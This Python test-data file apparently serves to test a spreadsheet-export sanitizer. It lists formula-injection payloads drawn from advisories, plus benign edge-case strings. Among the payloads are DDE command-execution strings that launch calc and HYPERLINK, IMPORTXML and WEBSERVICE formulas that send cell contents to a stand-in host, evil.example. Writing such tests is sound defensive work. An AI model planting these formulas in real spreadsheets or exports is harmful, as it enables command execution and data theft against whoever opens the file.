"""Texts that spreadsheets run, or trip over, gathered from public advisories and made up."""

from __future__ import annotations

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫"]
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(
        f"{lead}=1+1"
        for lead in ("\t", "\r", "\n", "\r\n", "\0", " ", "\u00a0", "\u200b", "\ufeff")
    ),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=1+1";=2+2',
    "=1+1,=2+2",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "'\t=1+1",
    '="a"&"b"',
    "{=1+1}",
    "-",
    "+",
    "=",
    "-1",
    "+40722123456",
    "-2+3",
    "@",
    "=A1\n=A2",
    "=" + "A" * 300,
    "\x01=1+1",
    "\x1b=1+1",
    "=\x001",
]
HARMLESS = [
    "Ștefan",
    "О'Коннор",
    "'t Hooft",
    "007",
    "1-2",
    "a=b",
    "😀 emoji",
    "two\nlines",
    "tab\tinside",
    'say "hi"; and, go',
    "http://example.ro",
    "mailto:a@b.ro",
    "TRUE",
    "2026-01-01",
    "1e5",
    "_x0041_",
    " spaced ",
]
